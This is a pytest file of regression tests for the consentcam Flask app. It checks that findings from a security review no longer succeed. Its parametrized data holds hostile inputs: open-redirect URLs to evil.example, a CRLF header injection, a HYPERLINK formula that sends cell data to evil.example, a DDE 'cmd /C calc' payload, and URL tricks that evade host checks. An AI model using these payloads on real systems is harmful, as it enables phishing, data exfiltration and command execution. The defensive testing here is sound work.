"""Each finding of the second security round, reproduced against the app: it no longer gets through."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from consentcam.domain.types import FaceState
from consentcam.models import (
    ApiToken,
    ConsentRecord,
    Event,
    Person,
    PersonKey,
    PublicLink,
    User,
    UserSession,
    utcnow,
)
from consentcam.reports.csv import render_csv, safe_cell
from consentcam.runtime import Runtime
from consentcam.security import parse_id, safe_next
from tests.conftest import OWNER_PASSWORD, STAFF_PASSWORD, login
from tests.hardening.helpers import owner_token
from tests.web.people_helpers import add_person, give_consent
from tests.web.photo_helpers import person_with_consent, photo_with_faces

# --- 1. Open redirect after sign-in and the language switch ---------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example/phish",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https://evil.example/",
        "/\r\n/evil.example",
        " //evil.example",
        "/\x00/evil.example",
        "java\tscript:alert(1)",
    ],
)
def test_no_redirect_off_the_site(client: FlaskClient, users: dict[str, int], target: str) -> None:
    response = client.post(
        "/login",
        query_string={"next": target},
        data={"email": "owner@example.com", "password": OWNER_PASSWORD},
    )
    assert response.status_code == 302
    location = response.headers["Location"]
    assert location in ("/", "http://localhost/"), location
    response = client.post("/language/en", data={"next": target})
    assert response.headers["Location"] in ("/", "http://localhost/")


def test_the_reported_tab_redirect(client: FlaskClient, users: dict[str, int]) -> None:
    response = client.post(
        "/login?next=/%09/evil.example/phish",
        data={"email": "owner@example.com", "password": OWNER_PASSWORD},
    )
    assert response.headers["Location"] in ("/", "http://localhost/")


def test_a_local_next_is_kept(client: FlaskClient, users: dict[str, int]) -> None:
    response = client.post(
        "/login",
        query_string={"next": "/photos/?state=needs_review"},
        data={"email": "owner@example.com", "password": OWNER_PASSWORD},
    )
    assert response.headers["Location"].endswith("/photos/?state=needs_review")


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from("/\\\t\r\n\x00 :.@%?#abcé\u202e\u3000"), max_size=14))
def test_safe_next_never_leaves_the_site(target: str) -> None:
    from urllib.parse import urljoin, urlsplit

    got = safe_next(target)
    # What a browser makes of it: drop tabs and line breaks, backslash as slash.
    seen = got.replace("\t", "").replace("\n", "").replace("\r", "").replace("\\", "/")
    assert urlsplit(urljoin("https://studio.example/x/", seen)).netloc == "studio.example"
    assert got.startswith("/") and not got.startswith("//")


# --- 3. Formula injection in every CSV ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_no_cell_of_the_audit_csv_starts_a_formula() -> None:
    snapshot: dict[str, Any] = {
        "quarter": "2026Q4",
        "findings": [
            {"publication_id": 1, "face_id": 5, "kind": "unknown_face", "message": FORMULAS[3]}
        ],
        "publications": [
            {
                "id": 1,
                "channel": "instagram",
                "url": "=cmd|' /C calc'!A0",
                "published_at": "2026-11-01",
                "live": True,
                "removed_at": None,
                "status": "live",
                "cleared_copy_present": True,
                "photo_id": 7,
                "photo_name": "+evil.jpg",
                "faces": [
                    {
                        "face_id": 5,
                        "number": 1,
                        "person_id": 3,
                        "person": FORMULAS[0],
                        "how": "consent",
                        "consent_id": 2,
                        "then": "@active",
                        "now": "-withdrawn",
                    }
                ],
                "supplier_permission": None,
                "unaccounted": None,
            }
        ],
    }
    rows = list(csv.reader(io.StringIO(render_csv(snapshot))))
    cells = [cell for row in rows for cell in row]
    assert any(FORMULAS[0] in cell for cell in cells), "the name is still there, as text"
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert bad == []
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("Anna Berg") == "Anna Berg" and safe_cell(-3) == -3


def test_staff_cannot_create_a_person_with_a_formula_name(
    app: Flask, client: FlaskClient, users: dict[str, int]
) -> None:
    rt = app.extensions["runtime"]
    with rt.sessions() as s:
        photo = photo_with_faces(rt, s, 1)
        face_id = photo.faces[0].id
    login(client, "staff")
    response = client.post(f"/photos/faces/{face_id}/new-person", data={"name": FORMULAS[0]})
    assert response.status_code == 403
    with rt.sessions() as s:
        assert s.scalar(sa.select(sa.func.count(Person.id))) == 0


# --- 4. Signing out ends the session and its remember-me cookie ------------------------------


def _cookie(client: FlaskClient, name: str) -> str | None:
    found = client.get_cookie(name)
    return found.value if found else None


def test_sign_out_ends_a_saved_session_cookie(
    app: Flask, client: FlaskClient, users: dict[str, int]
) -> None:
    login(client, "owner")
    saved = _cookie(client, "session")
    assert saved and client.get("/").status_code == 200
    assert client.post("/logout").status_code == 302
    thief = app.test_client()
    thief.set_cookie("session", saved)
    assert thief.get("/").status_code == 302, "a copy of the session cookie still signs in"


def test_remember_me_tokens_rotate_and_end_at_sign_out(app: Flask, users: dict[str, int]) -> None:
    def sign_in() -> FlaskClient:
        c = app.test_client()
        c.post(
            "/login",
            data={"email": "owner@example.com", "password": OWNER_PASSWORD, "remember": "y"},
        )
        return c

    first, second = sign_in(), sign_in()
    one, two = _cookie(first, "remember_token"), _cookie(second, "remember_token")
    assert one and two and one != two, "each sign-in gets its own remember-me token"

    # Used on a new visit (no session), the token is replaced: the old copy no longer works.
    first.delete_cookie("session")
    assert first.get("/").status_code == 200
    rotated = _cookie(first, "remember_token")
    assert rotated and rotated != one
    stale = app.test_client()
    stale.set_cookie("remember_token", one)
    assert stale.get("/").status_code == 302

    # Signing out on the second device ends its token, and only its own.
    assert second.post("/logout").status_code == 302
    replay = app.test_client()
    replay.set_cookie("remember_token", two)
    assert replay.get("/").status_code == 302
    first.delete_cookie("session")
    assert first.get("/").status_code == 200, "the other device stays signed in"


def test_one_device_is_signed_out_from_the_account_page(app: Flask, users: dict[str, int]) -> None:
    phone, laptop = app.test_client(), app.test_client()
    login(phone, "owner")
    login(laptop, "owner")
    rt = app.extensions["runtime"]
    with rt.sessions() as s:
        rows = s.scalars(sa.select(UserSession).order_by(UserSession.id)).all()
        assert len(rows) == 2
        phone_row = rows[0].id
    page = laptop.get("/account")
    assert page.status_code == 200 and f"/account/sessions/{phone_row}/end" in page.text
    assert laptop.post(f"/account/sessions/{phone_row}/end").status_code == 302
    assert phone.get("/").status_code == 302
    assert laptop.get("/").status_code == 200


def test_password_change_needs_the_current_one_and_signs_out_other_devices(
    app: Flask, users: dict[str, int]
) -> None:
    here, there = app.test_client(), app.test_client()
    login(here, "staff")
    login(there, "staff")
    here.post("/account/password", data={"current": "wrong-password-1", "new": "x" * 14})
    assert there.get("/").status_code == 200, "a wrong current password changes nothing"
    here.post("/account/password", data={"current": STAFF_PASSWORD, "new": "a-new-password-9"})
    assert there.get("/").status_code == 302
    assert here.get("/").status_code == 200
    fresh = app.test_client()
    ok = fresh.post("/login", data={"email": "staff@example.com", "password": "a-new-password-9"})
    assert ok.status_code == 302


def test_csrf_tokens_expire(instance: Path, runtime: Runtime, users: dict[str, int]) -> None:
    import re
    import time

    from consentcam.web import create_app
    from tests.conftest import base_settings

    settings_ = base_settings(instance, WTF_CSRF_ENABLED=True)
    settings_["ENCRYPTION_KEY"] = runtime.settings["ENCRYPTION_KEY"]
    app = create_app(settings_, instance_path=instance)
    assert 0 < app.config["WTF_CSRF_TIME_LIMIT"] <= 24 * 3600
    app.config["WTF_CSRF_TIME_LIMIT"] = 1
    client = app.test_client()
    page = client.get("/login").get_data(as_text=True)
    found = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page)
    assert found is not None
    token = found.group(1)
    time.sleep(2.2)
    late = client.post(
        "/login",
        data={"csrf_token": token, "email": "owner@example.com", "password": OWNER_PASSWORD},
    )
    assert late.status_code != 302, "an expired form token still signs in"
    app.extensions["runtime"].close()


# --- 5. Erasure leaves nothing behind ---------------------------------------------------------

NAME, EMAIL, PHONE, NOTE = "Erik Eraseme", "erik.eraseme@example.com", "+46701234567", "Gillar yoga"


def test_erasure_leaves_no_name_email_or_phone_on_disk(
    app: Flask, owner_client: FlaskClient, instance: Path
) -> None:
    rt = app.extensions["runtime"]
    pid = add_person(app, NAME, email=EMAIL, phone=PHONE, note=NOTE)
    consent_id = give_consent(app, pid)
    assert owner_client.get(f"/api/v1/consents/{consent_id}").status_code == 200
    with rt.sessions() as s:
        raw = " ".join(s.scalars(sa.select(Event.payload)))
        assert NAME not in raw, "the name is sealed in the log, not written in clear"
        assert s.get(PersonKey, pid) is not None
    response = owner_client.post(
        f"/people/{pid}/erase", data={"confirm_id": str(pid), "understood": "y"}
    )
    assert response.status_code in (302, 303), response.text[:300]
    with rt.sessions() as s:
        assert s.get(Person, pid).erased_at is not None
        assert s.get(PersonKey, pid) is None

    # The app is still running (its connections open): nothing may wait for a close.
    needles = [v.encode() for v in (NAME, EMAIL, PHONE, NOTE)] + [NAME.encode("utf-16-le")]
    files = [p for p in instance.rglob("*") if p.is_file()]
    assert any(p.name == "consentcam.db" for p in files)
    found = [
        f"{p.relative_to(instance)}: {n!r}" for p in files for n in needles if n in p.read_bytes()
    ]
    assert found == [], found

    # The chain still verifies, and the consent and evidence answer 404.
    from consentcam.services import events

    with rt.sessions() as s:
        checked, problem = events.verify(s)
        assert checked > 0 and problem is None
    assert owner_client.get(f"/api/v1/consents/{consent_id}").status_code == 404
    assert owner_client.get(f"/api/v1/people/{pid}/consents").status_code == 404
    assert owner_client.get(f"/people/{pid}/consents/{consent_id}/evidence").status_code == 404


def test_sealed_data_reads_back_until_erasure(app: Flask) -> None:
    from consentcam.services import events

    rt = app.extensions["runtime"]
    pid = add_person(app, "Åsa Öberg")
    with rt.sessions() as s:
        event = s.scalar(sa.select(Event).where(Event.subject == f"person:{pid}"))
        opened = events.unseal(s, pid, json.loads(event.payload))
        assert opened["name"] == "Åsa Öberg"
        events.shred(s, pid)
        assert events.unseal(s, pid, json.loads(event.payload)) == {"personal_data": "erased"}


def test_sqlite_secure_delete_is_on(app: Flask) -> None:
    with app.extensions["runtime"].engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA secure_delete").scalar() == 1


# --- 6. Roles: staff upload and review; clearing and publishing need the owner's grant ---------


def test_staff_cannot_clear_queue_or_publish_without_the_grant(
    app: Flask, client: FlaskClient, users: dict[str, int]
) -> None:
    rt = app.extensions["runtime"]
    with rt.sessions() as s:
        photo = photo_with_faces(rt, s, 1)
        face_id, photo_id = photo.faces[0].id, photo.id
    token = owner_token(app, users, "staff")
    auth = {"Authorization": f"Bearer {token}"}
    attempts = [
        ("POST", f"/api/v1/faces/{face_id}/not-identifiable", {"reason": "too small to see"}),
        ("POST", f"/api/v1/faces/{face_id}/blur", {}),
        ("POST", "/api/v1/queue", {"photo_id": photo_id, "channels": ["instagram"]}),
        ("POST", f"/api/v1/photos/{photo_id}/confirmation", {}),
    ]
    for method, url, body in attempts:
        assert client.open(url, method=method, json=body, headers=auth).status_code == 403, url
    login(client, "staff")
    for url in (
        f"/photos/faces/{face_id}/not-identifiable",
        f"/photos/faces/{face_id}/blur",
        f"/photos/faces/{face_id}/new-person",
        f"/photos/{photo_id}/confirm",
    ):
        assert client.post(url, data={"reason": "x", "name": "Someone"}).status_code == 403, url

    # The owner grants "may publish": the same staff member may now mark the face.
    owner = app.test_client()
    login(owner, "owner")
    assert (
        owner.post(f"/settings/users/{users['staff']}/publish", data={"allowed": "1"}).status_code
        == 302
    )
    response = client.open(
        f"/api/v1/faces/{face_id}/not-identifiable",
        method="POST",
        json={"reason": "too small to see"},
        headers=auth,
    )
    assert response.status_code != 403, response.get_data(as_text=True)


def test_every_route_has_a_role_and_the_readme_lists_them(app: Flask) -> None:
    from consentcam.web import roles

    endpoints = {rule.endpoint for rule in app.url_map.iter_rules()}
    missing = sorted(
        e for e in endpoints if e not in roles.ROUTE_ROLES and not e.endswith("static")
    )
    assert missing == [], f"routes without a role in consentcam/web/roles.py: {missing}"
    readme = (Path(__file__).parents[2] / "README.md").read_text("utf-8")
    table = {
        line.split("|")[1].strip().strip("`"): line.split("|")[2].strip()
        for line in readme.splitlines()
        if line.startswith("| `") and line.count("|") >= 3
    }
    wrong = sorted(
        f"{e}: README {table.get(e)!r}, code {role!r}"
        for e, role in roles.ROUTE_ROLES.items()
        if e in endpoints and table.get(e) != role
    )
    assert wrong == [], "README role table differs from the code:\n" + "\n".join(wrong)


def test_staff_get_403_on_every_publish_and_owner_route(
    app: Flask, client: FlaskClient, users: dict[str, int]
) -> None:
    from consentcam.web import roles
    from tests.hardening.test_web_security import _url

    login(client, "staff")
    token = owner_token(app, users, "staff")
    checked, wrong = 0, []
    for rule in app.url_map.iter_rules():
        role = roles.ROUTE_ROLES.get(rule.endpoint)
        if role not in (roles.PUBLISH, roles.OWNER):
            continue
        url = _url(rule)
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            api = url.startswith("/api/")
            body: dict[str, Any] = {"json": {}} if api and method != "GET" else {}
            response = client.open(
                url,
                method=method,
                headers={"Authorization": f"Bearer {token}"} if api else {},
                **body,
            )
            checked += 1
            if response.status_code != 403:
                wrong.append(f"{method} {url} -> {response.status_code}")
    assert checked > 60
    assert wrong == [], "staff not refused:\n" + "\n".join(wrong)


def test_staff_dashboard_has_no_link_to_the_audits(
    client: FlaskClient, users: dict[str, int]
) -> None:
    login(client, "staff")
    page = client.get("/")
    assert page.status_code == 200 and 'href="/audits/' not in page.text


# --- 9. Sign-in limits: per address and per account, failures only ---------------------------


def test_password_spraying_from_one_address_is_limited(
    client: FlaskClient, users: dict[str, int]
) -> None:
    statuses = [
        client.post(
            "/login", data={"email": f"person{i}@example.com", "password": "x" * 14}
        ).status_code
        for i in range(30)
    ]
    assert statuses[:20] == [200] * 20
    assert set(statuses[20:]) == {429}


def test_one_account_is_limited_from_many_addresses(app: Flask, users: dict[str, int]) -> None:
    client = app.test_client()
    for i in range(5):
        wrong = client.post(
            "/login",
            data={"email": "owner@example.com", "password": "x" * 14},
            environ_base={"REMOTE_ADDR": f"10.0.0.{i + 1}"},
        )
        assert wrong.status_code == 200
    blocked = client.post(
        "/login",
        data={"email": "owner@example.com", "password": OWNER_PASSWORD},
        environ_base={"REMOTE_ADDR": "10.0.0.99"},
    )
    assert blocked.status_code == 429


def test_correct_sign_ins_do_not_count(app: Flask, users: dict[str, int]) -> None:
    for _ in range(8):
        c = app.test_client()
        assert login(c, "owner").status_code == 302


@pytest.mark.redis
def test_failed_sign_ins_are_shared_through_redis(
    instance: Path, runtime: Runtime, users: dict[str, int]
) -> None:
    import secrets

    from tests.conftest import base_settings, redis_available

    if not redis_available():
        pytest.skip("no Redis on 127.0.0.1:6379")
    from consentcam.web import create_app

    name = "limits-" + secrets.token_hex(4)
    apps = []
    for _ in range(2):
        s = base_settings(instance, RATE_LIMIT_STORAGE="redis://127.0.0.1:6379/15", QUEUE_NAME=name)
        s["ENCRYPTION_KEY"] = runtime.settings["ENCRYPTION_KEY"]
        apps.append(create_app(s, instance_path=instance))
    one, two = (a.test_client() for a in apps)
    for i in range(5):
        c = one if i % 2 else two
        assert (
            c.post("/login", data={"email": "owner@example.com", "password": "x" * 14}).status_code
            == 200
        )
    assert (
        one.post(
            "/login", data={"email": "owner@example.com", "password": OWNER_PASSWORD}
        ).status_code
        == 429
    )
    for a in apps:
        a.extensions["runtime"].close()


# --- 10. The Graph API address is parsed ------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://graph.facebook.com/v21.0", True),
        ("http://127.0.0.1:8123/v21.0", True),
        ("http://127.0.0.1@evil.example/", False),
        ("https://graph.facebook.com@evil.example/", False),
        ("https://graph.facebook.com.evil.example/", False),
        ("http://graph.facebook.com/v21.0", False),
        ("https://evil.example/graph.facebook.com", False),
        ("https://127.0.0.1:8123\t@evil.example/", False),
        ("https://graph.facebook.com:abc/", False),
    ],
)
def test_graph_api_address(url: str, ok: bool) -> None:
    from consentcam.publishers.meta import MetaPublisher, graph_url_problem

    assert (graph_url_problem(url) is None) is ok
    if not ok:
        with pytest.raises(ValueError):
            MetaPublisher("instagram", "1", "token", graph_url=url)


def test_the_connection_form_refuses_a_graph_address_with_a_user_name(
    owner_client: FlaskClient, app: Flask
) -> None:
    from consentcam.models import ChannelConnection

    owner_client.post(
        "/settings/connections",
        data={
            "channel": "instagram",
            "kind": "meta",
            "account_id": "1784",
            "access_token": "secret-token",
            "graph_url": "http://127.0.0.1@evil.example/",
        },
    )
    with app.extensions["runtime"].sessions() as s:
        assert s.scalar(sa.select(sa.func.count(ChannelConnection.id))) == 0


# --- 12. Malformed numbers, deep JSON and line breaks answer 4xx, never 500 --------------------


@pytest.mark.parametrize(
    "url",
    [
        "/photos/?page=²",
        "/photos/status?ids=²,³",
        "/removals/?person_id=²",
        "/api/v1/removal-tasks?person_id=²",
        "/api/v1/removal-tasks?limit=²",
        "/api/v1/publications?limit=²&offset=¹",
        "/api/v1/publications?photo_id=٣",
        "/api/v1/photos?page=²",
        "/api/v1/people?page=²",
        "/withdrawals/new?person_id=²",
        "/queue/new?photo_id=²",
    ],
)
def test_unicode_digits_are_not_a_server_error(owner_client: FlaskClient, url: str) -> None:
    assert owner_client.get(url).status_code < 500


def test_unicode_digit_forms_and_parse_id() -> None:
    assert parse_id("²") is None and parse_id("٣") is None and parse_id("12") == 12
    assert parse_id(" 7 ") == 7 and parse_id("0") is None and parse_id(str(2**31)) is None


def test_form_photo_ids_with_unicode_digits(owner_client: FlaskClient, app: Flask) -> None:
    pid = add_person(app)
    response = owner_client.post(
        f"/people/{pid}/consents/new",
        data={"channels": "instagram", "scope": "listed", "photo_ids": ["²", "1"]},
    )
    assert response.status_code < 500


def test_json_nested_a_thousand_deep_is_400(
    owner_client: FlaskClient, app: Flask, users: dict[str, int]
) -> None:
    token = owner_token(app, users)
    body = "[" * 1000 + "]" * 1000
    deep = '{"a":' * 1000 + "1" + "}" * 1000
    for data in (body, deep):
        response = owner_client.post(
            "/api/v1/people",
            data=data,
            content_type="application/json",
            headers={"Authorization": f"Bearer {token}"},
        )
        assert response.status_code == 400, response.status_code


def test_line_breaks_in_next_are_dropped(client: FlaskClient, users: dict[str, int]) -> None:
    response = client.post(
        "/login?next=/%0D%0ASet-Cookie:%20x=1",
        data={"email": "owner@example.com", "password": OWNER_PASSWORD},
    )
    assert response.status_code == 302 and "Set-Cookie: x" not in str(response.headers)
    assert response.headers["Location"] in ("/", "http://localhost/")


# --- 13. Nothing behind sign-in is cached ------------------------------------------------------


def test_json_photos_and_files_behind_sign_in_are_no_store(
    app: Flask, owner_client: FlaskClient
) -> None:
    rt = app.extensions["runtime"]
    with rt.sessions() as s:
        photo = photo_with_faces(rt, s, 1)
    for url in (
        "/api/v1/people",
        f"/api/v1/photos/{photo.id}",
        f"/photos/{photo.id}/thumbnail",
        f"/photos/{photo.id}/image",
        "/photos/status?ids=1",
    ):
        response = owner_client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response.headers.get("Cache-Control", ""), url
    static = owner_client.get("/static/app.css")
    assert "no-store" not in static.headers.get("Cache-Control", "")
    static.close()


# --- 14. External URLs only from PUBLIC_URL; trusted hosts -------------------------------------


def test_no_qr_code_from_the_host_header(app: Flask, owner_client: FlaskClient) -> None:
    from flask import Flask

    from consentcam.web.people import record_url

    pid = add_person(app)
    assert isinstance(app, Flask)
    for public in ("", "http://127.0.0.1:5000", "http://localhost:5000"):
        app.config["PUBLIC_URL"] = public
        with app.test_request_context(f"/people/{pid}", headers={"Host": "evil.example"}):
            assert record_url(pid) is None
    app.config["PUBLIC_URL"] = "https://foto.kraftkallan.se"
    with app.test_request_context(f"/people/{pid}", headers={"Host": "evil.example"}):
        assert record_url(pid) == f"https://foto.kraftkallan.se/people/{pid}"
    from pypdf import PdfReader

    app.config["PUBLIC_URL"] = "https://foto.kraftkallan.se"
    with_qr = owner_client.get(f"/people/{pid}/form.pdf?lang=sv")
    assert len(PdfReader(io.BytesIO(with_qr.data)).pages[0].images) == 1
    app.config["PUBLIC_URL"] = ""
    pdf = owner_client.get(f"/people/{pid}/form.pdf?lang=sv")
    assert pdf.status_code == 200
    assert len(PdfReader(io.BytesIO(pdf.data)).pages[0].images) == 0, (
        "no QR code without PUBLIC_URL"
    )
    page = owner_client.get("/")
    assert "PUBLIC_URL" in page.text, "the dashboard warns until PUBLIC_URL is set"


def test_unknown_host_headers_are_refused(
    instance: Path, runtime: Runtime, users: dict[str, int]
) -> None:
    from consentcam.web import create_app
    from tests.conftest import base_settings

    s = base_settings(instance, PUBLIC_URL="https://foto.kraftkallan.se")
    s["ENCRYPTION_KEY"] = runtime.settings["ENCRYPTION_KEY"]
    app = create_app(s, instance_path=instance)
    client = app.test_client()
    assert client.get("/login", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/login", headers={"Host": "foto.kraftkallan.se"}).status_code == 200
    assert client.get("/login", headers={"Host": "127.0.0.1:5000"}).status_code == 200
    app.extensions["runtime"].close()


# --- 15. Public links: revoked at withdrawal, never anything but a cleared copy ----------------


def test_public_links_end_at_withdrawal_and_never_serve_an_original(
    app: Flask, owner_client: FlaskClient
) -> None:
    from consentcam.services import publishing, withdrawal
    from consentcam.services.cleared import make_cleared_copy

    rt = app.extensions["runtime"]
    rt.settings["PUBLIC_URL"] = "https://foto.kraftkallan.se"
    with rt.sessions() as s:
        person = person_with_consent(rt, s, "Anna Berg")
        photo = photo_with_faces(rt, s, 1)
        photo.faces[0].person_id = person.id
        photo.faces[0].state = FaceState.CONFIRMED
        s.flush()
        cleared = make_cleared_copy(rt, photo)
        url = publishing.create_public_link(s, rt, cleared.key, photo_id=photo.id)
        other = publishing.create_public_link(s, rt, cleared.key)
        s.commit()
        token = url.rsplit("/", 1)[1]
        other_token = other.rsplit("/", 1)[1]
        served = owner_client.get(f"/p/{token}")
        assert served.status_code == 200
        served.close()
        # A tampered row pointing at an original serves the cleared copy by its SHA-256, or nothing.
        link = s.scalar(sa.select(PublicLink).where(PublicLink.photo_id.is_(None)))
        link.cleared_copy_key = photo.original_key
        link.cleared_sha256 = None
        s.commit()
        assert publishing.resolve_public_link(s, other_token) is None
        link.cleared_copy_key = "cleared/../" + photo.original_key
        s.commit()
        assert publishing.resolve_public_link(s, other_token) is None

        withdrawal.withdraw_consent(s, rt, s.get(Person, person.id), ["instagram"], False, None)
        s.commit()
    assert owner_client.get(f"/p/{token}").status_code == 404


# --- 16. Reference photos are re-encoded ---------------------------------------------------------


def test_reference_photos_keep_no_metadata_or_trailing_bytes(app: Flask) -> None:
    from consentcam.models import ReferenceUpload
    from consentcam.services import people
    from tests.conftest import FACES

    rt = app.extensions["runtime"]
    source = Image.open(FACES / "unknown/obama1.jpg")
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {2: (59.0, 19.0, 0.0)}  # GPS latitude
    out = io.BytesIO()
    source.save(out, "JPEG", exif=exif, comment=b"secret comment")
    data = out.getvalue() + b"TRAILING-PAYLOAD"
    with rt.sessions() as s:
        person = person_with_consent(rt, s, "Bo Ek", biometric=True)
        upload = people.queue_reference(s, rt, person, data, "ref.jpg")
        s.commit()
        stored = rt.vault.decrypt(rt.storage.read(s.get(ReferenceUpload, upload.id).source_key))
    assert b"TRAILING-PAYLOAD" not in stored and b"secret comment" not in stored
    assert b"SpyCam" not in stored
    with Image.open(io.BytesIO(stored)) as im:
        assert not im.getexif() and "comment" not in im.info


# --- 17. Smaller points -----------------------------------------------------------------------------


def test_a_manual_post_link_must_be_on_the_channels_site() -> None:
    from consentcam.services.publishing import post_url_problem

    assert post_url_problem("instagram", "https://www.instagram.com/p/abc/") is None
    assert post_url_problem("facebook", "https://www.facebook.com/kraft/posts/1") is None
    assert post_url_problem("facebook", "https://fb.com/1") is None
    for channel, url in [
        ("instagram", "https://evil.example/p/abc"),
        ("instagram", "https://instagram.com.evil.example/p"),
        ("instagram", "https://www.facebook.com/p/1"),
        ("facebook", "https://user@evil.example/facebook.com"),
        ("facebook", "http://www.facebook.com/1"),
        ("instagram", "javascript:alert(1)"),
    ]:
        assert post_url_problem(channel, url) is not None, url


def test_downloading_a_cleared_copy_is_not_a_get(owner_client: FlaskClient) -> None:
    assert owner_client.get("/queue/1/download/instagram").status_code == 405


def test_lower_case_bearer_works_and_tokens_expire_and_have_a_scope(
    app: Flask, client: FlaskClient, users: dict[str, int]
) -> None:
    from consentcam.services import users as users_service

    token = owner_token(app, users)
    assert (
        client.get("/api/v1/people", headers={"Authorization": f"bearer {token}"}).status_code
        == 200
    )
    assert (
        client.get("/api/v1/people", headers={"Authorization": f"BEARER {token}"}).status_code
        == 200
    )
    rt = app.extensions["runtime"]
    with rt.sessions() as s:
        owner = s.get(User, users["owner"])
        _, reader = users_service.create_token(s, owner, "read only", scope="read")
        _, short = users_service.create_token(s, owner, "short", expires_in=timedelta(hours=1))
        s.commit()
    head = {"Authorization": f"Bearer {reader}"}
    assert client.get("/api/v1/people", headers=head).status_code == 200
    assert client.post("/api/v1/people", json={"name": "X"}, headers=head).status_code == 403
    assert (
        client.get("/api/v1/people", headers={"Authorization": f"Bearer {short}"}).status_code
        == 200
    )
    with rt.sessions() as s:
        row = s.scalar(sa.select(ApiToken).where(ApiToken.name == "short"))
        row.expires_at = utcnow() - timedelta(seconds=1)
        s.commit()
    assert (
        client.get("/api/v1/people", headers={"Authorization": f"Bearer {short}"}).status_code
        == 401
    )


def test_search_takes_percent_and_underscore_literally(
    app: Flask, owner_client: FlaskClient
) -> None:
    add_person(app, "Anna Berg")
    add_person(app, "Bo_Ek 100%")
    assert "Anna Berg" not in owner_client.get("/people/?q=%25").text
    assert "Anna Berg" not in owner_client.get("/people/?q=_").text
    assert "Bo_Ek" in owner_client.get("/people/?q=_").text
    assert owner_client.get("/photos/people-search?q=%25").get_json()["people"] == [
        {"id": 2, "name": "Bo_Ek 100%"}
    ]


@pytest.mark.parametrize("name", ["Anna\x00Berg", "Anna\u202egreB", "Anna\nBerg", "Anna\u200bBerg"])
def test_names_with_control_or_direction_characters_are_refused(
    app: Flask, owner_client: FlaskClient, name: str
) -> None:
    from consentcam.services import people
    from consentcam.services.people import ConsentError

    with app.extensions["runtime"].sessions() as s:
        with pytest.raises(ConsentError):
            people.add_person(s, name)
    response = owner_client.post("/people/new", data={"name": name})
    assert response.status_code < 500
    with app.extensions["runtime"].sessions() as s:
        assert s.scalar(sa.select(sa.func.count(Person.id))) == 0


def test_consent_records_survive_sealing(app: Flask) -> None:
    """Giving consent still works for a sealed person (their key is made once)."""
    pid = add_person(app, "Cecilia Ström")
    give_consent(app, pid)
    give_consent(app, pid)
    with app.extensions["runtime"].sessions() as s:
        assert s.scalar(sa.select(sa.func.count(ConsentRecord.id))) == 2
        assert s.scalar(sa.select(sa.func.count(PersonKey.person_id))) == 1


def test_the_owner_makes_a_read_only_token_that_expires(
    app: Flask, owner_client: FlaskClient
) -> None:
    import re

    page = owner_client.post(
        "/settings/tokens", data={"name": "dashboard", "scope": "read", "days": "30"}
    ).get_data(as_text=True)
    found = re.search(r'id="new-token">([^<]+)<', page)
    assert found is not None
    clear = found.group(1)
    with app.extensions["runtime"].sessions() as s:
        row = s.scalar(sa.select(ApiToken).where(ApiToken.name == "dashboard"))
        assert row.scope == "read" and row.expires_at is not None
        assert timedelta(days=29) < row.expires_at - utcnow() <= timedelta(days=30)
    client = app.test_client()
    head = {"Authorization": f"Bearer {clear}"}
    assert client.get("/api/v1/people", headers=head).status_code == 200
    assert client.post("/api/v1/people", json={"name": "X"}, headers=head).status_code == 403
